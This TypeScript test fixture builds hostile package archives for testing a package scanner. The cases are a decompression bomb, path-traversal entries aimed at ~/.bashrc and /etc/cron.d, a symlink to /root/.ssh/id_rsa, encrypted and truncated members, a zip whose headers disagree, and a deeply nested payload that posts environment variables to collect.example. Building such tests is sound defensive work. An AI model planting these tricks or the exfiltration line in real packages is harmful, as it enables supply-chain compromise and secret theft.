import { gzipSync } from 'node:zlib'
import { writeNpm, writeSdist, writeWheel } from '../../support/package-archives.ts'
import {
  type CaseArtefact,
  type CaseProject,
  npm,
  type PackageCase,
  pypi,
  sdist,
  sdistArtefact,
  tarball,
  wheel,
  YOUNG,
} from '../../support/package-case.ts'
import { writeTar } from '../../support/tar-writer.ts'
import { writeZip } from '../../support/zip-writer.ts'

const code = { 'pkg/__init__.py': 'VERSION = "1.0"\n' }
const SETUP = 'from setuptools import setup\nsetup(name="pkg", version="1.0", packages=["pkg"])\n'
const honest = pypi('pkg', wheel('pkg', '1.0', code))

/** Zeros, more than are let pass of a small file. */
function bomb(): Buffer {
  return gzipSync(writeTar([{ name: 'zeros.bin', data: Buffer.alloc(260 * 1024 * 1024) }]), { level: 1 })
}

function one(name: string, bytes: () => Uint8Array): CaseProject {
  const artefact: CaseArtefact = { name, bytes }
  return pypi('pkg', { version: '1.0', artefacts: [artefact] }, { since: YOUNG })
}

/** Archives that are made so that those who look see something else, or tire. */
export const hostileArchives: readonly PackageCase[] = [
  {
    id: 'a bomb beside code',
    incident: 'a bomb in a source distribution: what is packed with it is not looked at, and says so',
    project: one('pkg-1.0.tar.gz', () =>
      writeSdist('pkg', '1.0', { 'setup.py': SETUP, ...code, 'pkg/data.tar.gz': bomb() }),
    ),
    expect: {
      verdict: 'hold',
      story: 'unreadable',
      text: /^There is a part of the archive that is closed to readers \(/,
    },
    twin: pypi('pkg', {
      version: '1.0',
      artefacts: [
        sdistArtefact('pkg', '1.0', {
          'setup.py': SETUP,
          ...code,
          'pkg/data.tar.gz': gzipSync(writeTar([{ name: 'table.csv', data: 'a,b\n'.repeat(100_000) }])),
        }),
      ],
    }),
  },
  {
    id: 'paths that lead out',
    incident: 'traversal in a wheel and a tarball (CVE-2007-4559 and its likes): members with `..` in their names',
    project: npm(
      'path-helper-mini',
      {
        version: '1.0.0',
        artefacts: [
          {
            name: 'path-helper-mini-1.0.0.tgz',
            bytes: () =>
              writeNpm('path-helper-mini', '1.0.0', { 'index.js': 'module.exports = {};\n' }, {}, [
                { name: 'package/../../../../home/user/.bashrc', data: 'echo\n' },
                { name: '/etc/cron.d/job', data: '* * * * * root true\n' },
              ]),
          },
        ],
        stated: {},
      },
      { since: YOUNG },
    ),
    expect: { verdict: 'hold', story: 'unreadable', text: /^The archive leads out of its own folder \(/ },
    twin: npm(
      'path-helper-mini',
      tarball('path-helper-mini', '1.0.0', {
        'index.js': 'module.exports = {};\n',
        'lib/..hidden.js': 'module.exports = 1;\n',
      }),
    ),
  },
  {
    id: 'links that lead out',
    incident:
      'a link in a source distribution to a file of the machine, which a build then packs (uv, pip and setuptools, 2023 to 2025)',
    project: one('pkg-1.0.tar.gz', () =>
      writeSdist('pkg', '1.0', { 'setup.py': SETUP, ...code }, {}, [
        { name: 'pkg-1.0/pkg/key.txt', typeflag: '2', linkName: '../../../../../root/.ssh/id_rsa' },
        { name: 'pkg-1.0/pkg/null', typeflag: '3' },
      ]),
    ),
    expect: { verdict: 'hold', story: 'unreadable', text: /^The archive leads out of its own folder \(/ },
    twin: one('pkg-1.0.tar.gz', () =>
      writeSdist('pkg', '1.0', { 'setup.py': SETUP, ...code, LICENSE: 'MIT\n' }, {}, [
        { name: 'pkg-1.0/pkg/LICENSE', typeflag: '2', linkName: '../LICENSE' },
      ]),
    ),
  },
  {
    id: 'an encrypted archive',
    incident:
      'nullifAI and packages of 2024 to 2026: a member that is flagged as encrypted is closed to readers that believe the flag',
    project: one('pkg-1.0-py3-none-any.whl', () =>
      writeWheel('pkg', '1.0', code, {}, [{ name: 'pkg/_run.py', data: 'print(1)\n', encrypted: true }]),
    ),
    expect: {
      verdict: 'hold',
      story: 'unreadable',
      text: /^There is a part of the archive that is closed to readers \(flagged as encrypted/,
    },
    twin: one('pkg-1.0-py3-none-any.whl', () =>
      writeWheel('pkg', '1.0', { ...code, 'pkg/data.zip': writeZip([{ name: 'table.csv', data: 'a,b\n1,2\n' }]) }),
    ),
  },
  {
    id: 'an archive that is cut',
    incident: 'a source distribution that ends in the middle of setup.py: pip unpacks what is there',
    project: one('pkg-1.0.tar.gz', () => {
      const tar = writeTar([
        { name: 'pkg-1.0/PKG-INFO', data: 'Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n' },
        { name: 'pkg-1.0/setup.py', data: `${SETUP}${'# padding of the setup script\n'.repeat(2000)}` },
      ])
      return gzipSync(tar.subarray(0, tar.length - 20_000)).subarray(0, -6)
    }),
    expect: { verdict: 'hold', story: 'unreadable', text: /^The archive ends before its content does \(gzip: cut off/ },
    twin: pypi('pkg', sdist('pkg', '1.0', { 'setup.py': SETUP, ...code })),
  },
  {
    id: 'a wheel that is cut',
    incident: 'a wheel without its table of contents: readers of local headers see its files, pip sees none',
    project: one('pkg-1.0-py3-none-any.whl', () => {
      const whole = writeWheel('pkg', '1.0', { ...code, 'pkg/more.py': 'import os\nos.system("id")\n' })
      return whole.subarray(0, Math.floor(whole.length / 2))
    }),
    expect: {
      verdict: 'hold',
      story: 'unreadable',
      text: /^The archive ends before its content does \(no end record/,
    },
    twin: honest,
  },
  {
    id: 'two archives in one',
    incident: 'two readers, two contents: a second member of the same name, and another name in the local header',
    project: one('pkg-1.0-py3-none-any.whl', () =>
      writeWheel('pkg', '1.0', code, {}, [
        { name: 'pkg/__init__.py', data: 'import os\nos.system("id")\n' },
        { name: 'pkg/a.py', data: 'A = 1\n', lie: { localName: 'pkg/b.pth' } },
      ]),
    ),
    expect: { verdict: 'hold', story: 'unreadable', text: /^The archive shows two readers two things \(/ },
    twin: honest,
  },
  {
    id: 'an archive in archives',
    incident: 'payloads in six archives, one in the other: opened to the depth that the budget allows',
    project: one('pkg-1.0-py3-none-any.whl', () => {
      const inner = Buffer.from(
        "import os, urllib.request\nurllib.request.urlopen('https://collect.example/n', data=repr(dict(os.environ)).encode())\n",
      )
      let packed: Buffer = writeZip([{ name: 'inner.py', data: inner }])
      for (let depth = 0; depth < 30; depth++)
        packed =
          depth % 2 === 0
            ? gzipSync(writeTar([{ name: `l${depth}.zip`, data: packed }]))
            : writeZip([{ name: `l${depth}.tar.gz`, data: packed }])
      return writeWheel('pkg', '1.0', { ...code, 'pkg/data.zip': packed })
    }),
    expect: { verdict: 'hold', story: 'unreadable', text: /closed to readers/ },
    twin: one('pkg-1.0-py3-none-any.whl', () =>
      writeWheel('pkg', '1.0', {
        ...code,
        'pkg/data.zip': writeZip([
          { name: 'more.tar.gz', data: gzipSync(writeTar([{ name: 'table.csv', data: 'a\n' }])) },
        ]),
      }),
    ),
  },
]
